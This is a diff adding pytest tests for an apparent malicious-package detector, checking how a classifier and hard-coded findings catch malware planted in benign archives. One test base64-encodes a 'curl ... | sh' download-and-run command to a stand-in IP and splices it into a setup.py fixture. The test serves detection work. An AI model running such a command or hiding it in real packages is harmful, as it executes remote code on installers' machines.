@@ -124,6 +124,45 @@ def test_the_holdout_scores_real_merged_archives(tmp_path: Path) -> None:
     assert "| planted in a benign project | 1.000 |" in text
 
 
+class Blind:
+    """A stand-in model that misses everything."""
+
+    def predict_proba(self, rows: list[PackageFeatures]) -> Any:
+        return np.column_stack([np.full(len(rows), 0.9), np.full(len(rows), 0.1)])
+
+
+def test_the_scan_path_adds_what_hard_findings_catch(tmp_path: Path) -> None:
+    import base64
+
+    samples, groups, labels = samples_on_disk(tmp_path)
+    hidden = base64.b64encode(b"curl -s http://203.0.113.7/x | sh").decode()
+    for i in (0, 1):  # one cluster hides its download-and-run in base64: a hard finding, planted or not
+        evil = evil_files() | {
+            "evil-1.0/setup.py": PAYLOAD.replace("'curl", f"base64.b64decode('{hidden}') or 'curl")
+        }
+        write_tar(samples[i].path, evil)
+    rows = np.arange(len(samples))
+    scores = np.full(len(samples), 0.1)
+    result = injection.injection_holdout(
+        Blind(),
+        0.5,
+        samples,
+        groups,
+        rows,
+        scores,
+        labels,
+        n=10,
+        jobs=1,
+        host_bytes=(1_000, 10**9),
+        row_findings=np.array([i in (0, 1) for i in rows]),
+    )
+    assert result["n"] == 3 and result["recall_alone"] == result["recall_injected"] == 0.0
+    assert result["recall_alone_scan_path"] == result["recall_injected_scan_path"] == 1 / 3
+    assert result["injected_caught_only_by_findings"] == 1
+    text = "\n".join(injection.injection_markdown("default", result))
+    assert "Scan path (the model or a hard finding from the features): alone 0.333, planted 0.333" in text
+
+
 def test_a_disguised_copy_takes_the_hosts_packaging_and_keeps_its_behaviours() -> None:
     bad = dict.fromkeys(FEATURE_IDS, 0.0)
     bad.update({"code.os_system": 1.0, "archive.log_py_bytes": 5.0, "meta.no_license": 1.0})
@@ -154,8 +193,9 @@ def test_planted_scores_reads_each_pair_and_scores_it(tmp_path: Path) -> None:
     chosen = injection.choose_pairs(
         samples, groups, rows[labels == 1], rows[labels == 0], 2, host_bytes=(1_000, 10**9)
     )
-    pairs, scores, unreadable = injection.planted_scores(ByTokens(), samples, chosen, jobs=1)
+    pairs, scores, unreadable, findings = injection.planted_scores(ByTokens(), samples, chosen, jobs=1)
     assert len(pairs) == 2 and unreadable == 0 and scores.tolist() == [0.9, 0.9]
+    assert findings.tolist() == [False, False]  # a plain download-and-run: the model's to judge
     assert all(labels[p.malware] == 1 and labels[p.host] == 0 for p in pairs)
 
 
